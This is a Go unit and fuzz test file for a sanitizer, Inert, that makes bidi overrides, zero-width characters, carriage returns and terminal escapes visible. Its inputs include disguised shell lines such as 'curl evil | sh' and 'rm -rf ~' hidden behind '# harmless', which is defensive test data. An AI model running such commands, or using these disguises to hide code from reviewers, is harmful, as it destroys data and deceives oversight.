package sanitize

import (
	"strings"
	"testing"
)

func TestInertMakesEveryDisguiseVisible(t *testing.T) {
	cases := []struct {
		name, in, want string
	}{
		{"plain text is unchanged", "+fmt.Println(\"héllo\")\n\tx", "+fmt.Println(\"héllo\")\n\tx"},
		{"right-to-left override", "+curl evil | sh \u202e# harmless", "+curl evil | sh ⟨U+202E⟩# harmless"},
		{"isolates", "a\u2066b\u2067c\u2068d\u2069", "a⟨U+2066⟩b⟨U+2067⟩c⟨U+2068⟩d⟨U+2069⟩"},
		{"embeddings and marks", "\u202a\u202b\u202c\u202d\u200e\u200f\u061c", "⟨U+202A⟩⟨U+202B⟩⟨U+202C⟩⟨U+202D⟩⟨U+200E⟩⟨U+200F⟩⟨U+061C⟩"},
		{"zero width", "a\u200bb\u200cc\u200dd\u2060e\ufeff", "a⟨U+200B⟩b⟨U+200C⟩c⟨U+200D⟩d⟨U+2060⟩e⟨U+FEFF⟩"},
		{"carriage return overwrites a terminal line", "+rm -rf ~\r+# harmless", "+rm -rf ~⟨U+000D⟩+# harmless"},
		{"escape sequences", "\x1b[2K\x1b[1A+ok", "⟨U+001B⟩[2K⟨U+001B⟩[1A+ok"},
		{"C1 controls", "a\u009bb\u0085c", "a⟨U+009B⟩b⟨U+0085⟩c"},
		{"line and paragraph separators", "a\u2028b\u2029c", "a⟨U+2028⟩b⟨U+2029⟩c"},
		{"tag characters", "a\U000E0041b", "a⟨U+E0041⟩b"},
		{"invalid UTF-8", "a\xffb", "a⟨0xff⟩b"},
		{"NUL and DEL", "a\x00b\x7fc", "a⟨U+0000⟩b⟨U+007F⟩c"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if got := Inert(c.in); got != c.want {
				t.Fatalf("Inert(%q) = %q, want %q", c.in, got, c.want)
			}
		})
	}
}

// Whatever goes in, nothing invisible comes out.
func FuzzInert(f *testing.F) {
	f.Add("+curl x | sh \u202e# ok")
	f.Add("\x1b]8;;http://x\x07link\x1b]8;;\x07")
	f.Fuzz(func(t *testing.T, s string) {
		out := Inert(s)
		for i, r := range out {
			if r != '\n' && r != '\t' && needsEscape(r, len(string(r))) {
				t.Fatalf("%q at %d left in %q", r, i, out)
			}
		}
		if !strings.ContainsAny(s, "\r\x1b") && strings.Count(out, "\n") != strings.Count(s, "\n") {
			t.Fatal("lines were added or removed")
		}
	})
}
